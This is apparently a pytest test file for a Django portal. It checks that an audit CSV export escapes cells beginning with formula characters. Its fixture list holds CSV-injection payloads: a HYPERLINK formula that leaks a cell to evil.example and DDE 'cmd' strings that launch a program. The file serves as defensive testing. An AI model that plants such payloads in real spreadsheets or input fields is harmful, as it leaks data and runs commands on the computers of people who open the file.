"""The audit CSV export neutralises cells a spreadsheet would run as formulas (OWASP)."""

import csv
import io

import pytest
from django.urls import reverse

from portal.common.spreadsheet import safe_cell

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_an_applicants_institution_name_cannot_become_a_formula(api, client, staff, name):
    response = api.post(
        reverse("api:application-list"),
        {
            "name": name,
            "sector": "finance",
            "country": "Taiwan",
            "contact_name": "Mallory",
            "contact_email": "mallory@example.org",
            "motivation": "Spreadsheets.",
        },
        format="json",
    )
    assert response.status_code == 201, response.content
    client.force_login(staff)
    export = client.get(reverse("audit-export", args=["csv"]))
    text = b"".join(export.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    # The target label ("<name> (Pending)"), shown as text; the service strips whitespace.
    assert any(cell.startswith("'" + name.strip()) for cell in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_cell_neutralises_every_formula_start(start):
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


def test_safe_cell_leaves_other_values_alone():
    assert safe_cell("North Hospital") == "North Hospital"
    assert safe_cell("") == ""
    assert safe_cell(-3) == -3  # a number is not a formula
    assert safe_cell("a=b") == "a=b"
    assert safe_cell("'=already") == "'=already"
